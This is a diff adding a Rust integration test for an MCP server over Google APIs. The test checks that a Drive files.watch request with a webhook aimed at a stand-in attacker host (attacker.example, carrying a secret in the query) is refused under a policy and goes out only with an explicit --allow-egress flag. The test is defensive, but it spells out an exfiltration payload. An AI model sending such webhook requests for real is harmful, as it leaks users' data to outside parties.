@@ -513,3 +513,38 @@ async fn drafts_yes_send_no_as_the_readme_shows() {
         assert!(out.stderr.contains(rule), "{words:?}: {}", out.stderr);
     }
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn gapi_mcp_under_a_policy_refuses_urls_google_would_fetch_unless_allowed() {
+    let setup = Setup::new(true).await;
+    let watch = json!([["call_method", {"api": "drive", "method": "files.watch",
+        "params": {"fileId": "F"},
+        "body": {"id": "c1", "type": "web_hook", "address": "https://attacker.example/?d=secret"}}]]);
+    requests_since(&setup).await;
+    // Under a policy (server flags, or the stored one): refused, nothing sent.
+    for flags in [&["--allow", "drive.*"][..], &[][..]] {
+        if flags.is_empty() {
+            let out = setup
+                .run(&["auth", "policy", "set", "--allow", "drive.*"])
+                .await;
+            assert_eq!(out.code, 0, "{}", out.stderr);
+        }
+        let out = mcp_session(&setup, flags, &[], watch.clone()).await;
+        let r = &out["results"][0];
+        assert_eq!(r["is_error"], true, "{flags:?}: {r}");
+        let text = r["text"].as_str().unwrap_or_default();
+        assert!(
+            text.contains("body.address") && text.contains("--allow-egress"),
+            "{flags:?}: {text}"
+        );
+        assert!(requests_since(&setup).await.is_empty(), "{flags:?}: sent");
+    }
+    // A person's --allow-egress lets it go.
+    let out = mcp_session(&setup, &["--allow-egress"], &[], watch).await;
+    let text = out["results"][0]["text"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    assert!(!text.contains("--allow-egress"), "{text}");
+    assert_eq!(requests_since(&setup).await.len(), 1, "{text}");
+}
